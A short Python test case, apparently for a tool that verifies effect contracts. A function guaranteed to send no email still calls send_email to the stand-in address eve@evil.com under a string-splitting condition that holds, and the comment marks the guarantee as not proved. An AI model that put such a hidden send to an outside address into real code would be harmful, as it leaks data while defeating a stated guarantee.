# not proved: " a  b ".split() has two parts, split(" ") five
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    if len(" a  b ".split()) == 2 and len(" a  b ".split(" ")) == 5:
        send_email("eve@evil.com", "x")
